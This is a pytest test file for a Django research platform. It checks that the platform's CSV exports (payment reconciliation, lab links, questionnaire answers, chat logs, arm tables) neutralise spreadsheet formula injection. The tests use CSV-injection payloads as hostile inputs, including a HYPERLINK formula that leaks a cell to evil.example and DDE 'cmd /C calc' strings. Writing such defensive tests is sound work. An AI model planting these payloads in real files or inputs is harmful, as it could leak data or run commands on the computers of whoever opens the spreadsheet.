"""Exports that attack the lab (issue 21, item 5): every CSV the project writes, with hostile values
entered the way a participant enters them (an entry link's ids, a questionnaire answer, a chat
message), opens in a spreadsheet as text: a cell that starts with = + - @ tab or CR gets a single
quote in front (OWASP's rule) and every text cell is quoted; ``csvsafe.original_text`` gives the
text back (docs/exports.md)."""
from __future__ import annotations

import csv
import io
from urllib.parse import urlencode

import pytest
from django.test import Client

from crowd import entry, payments
from research.exports import run_export
from crowd.models import Participant
from live.models import Batch, Seat
from live.services import SeatSpec, match_apply_action, match_create
from groundtalk_web import csvsafe

from tests.crowd.test_questionnaire import me, pair
from tests.support.factories import batch as make_batch
from tests.support.factories import listener_target

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")'
CMD = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CMD, "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=quoted already",
           "x;=HYPERLINK(\"http://evil.example\")"]


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: those that start with a formula character."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in csvsafe.FORMULA_STARTS]


def test_safe_cell_escapes_formula_starts_and_original_text_undoes_it():
    for text in [*HOSTILE, "\t=1+1", "\r=1+1", "the blue one", "", "'", "''x", "=", "a=b"]:
        cell = csvsafe.safe_cell(text)
        assert cell[:1] not in csvsafe.FORMULA_STARTS
        assert csvsafe.original_text(cell) == text
    assert csvsafe.safe_cell("the blue one") == "the blue one"
    assert csvsafe.safe_cell(-5) == -5 and csvsafe.safe_cell(2.5) == 2.5 and csvsafe.safe_cell(None) is None


# ------------------------------------------------------------------ the review page's reconciliation
def test_reconciliation_csv_escapes_ids_entered_through_a_prolific_link(admin_client):
    b = make_batch(slug="recon", entry_kinds=["prolific"])
    query = urlencode({"PROLIFIC_PID": HYPERLINK, "STUDY_ID": "@SUM(1+1)", "SESSION_ID": CMD})
    r = Client().get(f"/b/{b.slug}/?{query}")
    entered = Participant.objects.filter(batch=b).exists()
    if not entered:   # the entry's id checks refused the link: a clear page, nothing stored
        assert r.status_code in (400, 403) and b"Traceback" not in r.content
    # rows stored before ids were checked (or by another path) are escaped all the same
    Participant.objects.create(batch=b, platform="prolific", worker_id="-1+cmd|' /C calc'!A0",
                               session_id="=1+2;=HYPERLINK(\"x\")", study_id="+x", exit_reason="completed")
    r = admin_client.get(f"/research/batches/{b.slug}/review.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    text = r.content.decode()
    assert formula_cells(text) == []
    assert all(line.startswith('"') for line in text.splitlines())   # every cell quoted
    rows = list(csv.DictReader(io.StringIO(text)))
    got = {(csvsafe.original_text(row["worker_id"]), csvsafe.original_text(row["assignment_or_submission"]))
           for row in rows}
    assert ("-1+cmd|' /C calc'!A0", "=1+2;=HYPERLINK(\"x\")") in got
    if entered:
        assert (HYPERLINK, CMD) in got
    assert payments.reconciliation_csv(b) == text


# ------------------------------------------------------------------------------------ lab links
def test_lab_links_csv_quotes_every_cell_and_hostile_names_are_refused(admin_client):
    b = make_batch(slug="labcsv", entry_kinds=["lab"])
    for name in (HYPERLINK, CMD, "@x", "-x"):
        r = admin_client.post(f"/research/batches/{b.slug}/lab-links/", {"names": name})
        assert r.status_code == 400 and 'id="lab-error"' in r.content.decode(), name
    r = admin_client.post(f"/research/batches/{b.slug}/lab-links/", {"names": "ann\nbob-2"})
    text = r.content.decode()
    assert all(line.startswith('"') for line in text.splitlines()) and formula_cells(text) == []
    assert [row["name"] for row in csv.DictReader(io.StringIO(text))] == ["ann", "bob-2"]
    # the writer escapes whatever it is given (names are checked before it)
    assert formula_cells(entry.lab_links_csv([(HYPERLINK, CMD)])) == []


# --------------------------------------------------------------------------------- questionnaire
def test_questionnaire_csv_escapes_free_text_answers_given_through_the_form():
    from tests.crowd.test_outcomes import play_colors_round

    questions = [{"id": "enjoyed", "kind": "likert", "text": "I enjoyed it", "min": 1, "max": 5},
                 {"id": "comment", "kind": "text", "text": "=Comments?", "required": False, "max_length": 300}]
    b = make_batch(slug="qcsv", config={"rounds": 1}, questionnaire=questions, pay_cents=100)
    [(ca, ua), (cb, ub)], match = pair(b)
    play_colors_round(match.id)
    for client, url, comment in ((ca, ua, HYPERLINK), (cb, ub, CMD)):
        r = client.post(url, {"step": "questionnaire", "enjoyed": "3", "comment": comment})
        assert r.status_code == 302
    assert me(ua).questionnaire.answers["comment"] == HYPERLINK   # stored as given
    out = io.StringIO()
    assert run_export("questionnaire-csv", out, batch="qcsv") == 4
    text = out.getvalue()
    assert formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    comments = {csvsafe.original_text(r["answer"]) for r in rows if r["question_id"] == "comment"}
    assert comments == {HYPERLINK, CMD}
    assert {r["question"] for r in rows if r["question_id"] == "comment"} == {"'=Comments?"}
    assert {r["answer"] for r in rows if r["question_id"] == "enjoyed"} == {"3"}


# ------------------------------------------------------------------------------ Colors in Context
def test_colors_csv_escapes_chat_messages_and_keeps_the_release_layout():
    from games.colors.exports import CSV_COLUMNS

    seats = {role: SeatSpec(Seat.Kind.HUMAN) for role in ("speaker", "listener")}
    m = match_create(game_id="colors_v1", seats=seats, seed=3, config={"rounds": 1})
    for i, text in enumerate(HOSTILE):
        role = "speaker" if i % 2 == 0 else "listener"
        match_apply_action(match_id=m.id, role=role, action={"type": "chat", "text": text}, client_action_id=f"c{i}")
    m.refresh_from_db()
    match_apply_action(match_id=m.id, role="listener", client_action_id="click",
                       action={"type": "click", "position": listener_target(m), "round": 1})
    out = io.StringIO()
    assert run_export("colors-csv", out) == len(HOSTILE)   # this test's one match
    text = out.getvalue()
    assert formula_cells(text) == []
    # quoted whole: a spreadsheet splitting on ; cannot start a formula inside the message
    assert '"x;=HYPERLINK(""http://evil.example"")"' in text
    lines = text.splitlines()
    assert lines[0] == ",".join(f'"{c}"' for c in CSV_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text)))            # as the release's readers read it
    assert [csvsafe.original_text(r["contents"]) for r in rows] == HOSTILE
    assert rows[0]["contents"] == "'" + HYPERLINK
    assert rows[0]["numRawChars"] == str(len(HYPERLINK))        # counted on the message as written
    # numbers stay bare: the round number, times and colors read as numbers
    first = next(csv.reader([lines[1]], quoting=csv.QUOTE_NONNUMERIC))
    row = dict(zip(CSV_COLUMNS, first))
    assert row["roundNum"] == 1.0 and isinstance(row["clkTime"], float) and row["condition"] in ("far", "split",
                                                                                                "close")


# ------------------------------------------------- the arms table and the CoDraw key file (issue 24)
# Their only free-text cells are the arm's name (a researcher's, up to 64 characters: the CSV may
# be opened by someone else, a payer or a co-author) and, in the key file, the content's key.
SHORT_HOSTILE = ['=HYPERLINK("http://evil.example","Click")', CMD]


def test_arm_table_csv_escapes_arm_names(admin_client):
    from tests.research.test_arm_monitor import add_match

    arms = [{"name": name, "agents": {"listener": "colors_literal_listener"}} for name in SHORT_HOSTILE]
    b = make_batch(slug="armcsv", game_id="colors_v1", pairing="human-agent", human_roles=["speaker"],
                   agents={"listener": "colors_literal_listener"}, arms=arms)
    p = Participant.objects.create(batch=b, platform="lab", worker_id="ann")
    for name in SHORT_HOSTILE:
        add_match(b, name, p, 2)
    r = admin_client.get("/research/compare/", {"game": "colors_v1", "arm_batch": b.slug, "format": "csv"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    text = r.content.decode()
    assert formula_cells(text) == [] and all(line.startswith('"') for line in text.splitlines())
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(csvsafe.original_text(row["arm"]) for row in rows) == sorted(SHORT_HOSTILE)


def test_codraw_key_file_escapes_arm_names_and_content_keys():
    from live.models import Match

    seats = {role: SeatSpec(Seat.Kind.HUMAN) for role in ("teller", "drawer")}
    b = make_batch(slug="keycsv", game_id="codraw_v1", arms=[{"name": SHORT_HOSTILE[0], "agents": {}}])
    m = match_create(game_id="codraw_v1", seats=seats, seed=3, config={}, batch=b, arm=SHORT_HOSTILE[0])
    match_apply_action(match_id=m.id, role="teller", action={"type": "chat", "text": "a tree on the left"})
    content = dict(Match.objects.get(pk=m.pk).content or {}, key=CMD)
    Match.objects.filter(pk=m.pk).update(status=Match.Status.FINISHED, content=content)
    out = io.StringIO()
    assert run_export("codraw-keys", out, batch=b.slug, format_options={"codraw_split": "original"}) == 1
    text = out.getvalue()
    assert formula_cells(text) == [] and all(line.startswith('"') for line in text.splitlines())
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert csvsafe.original_text(row["arm"]) == SHORT_HOSTILE[0]
    assert csvsafe.original_text(row["source_key"]) == CMD
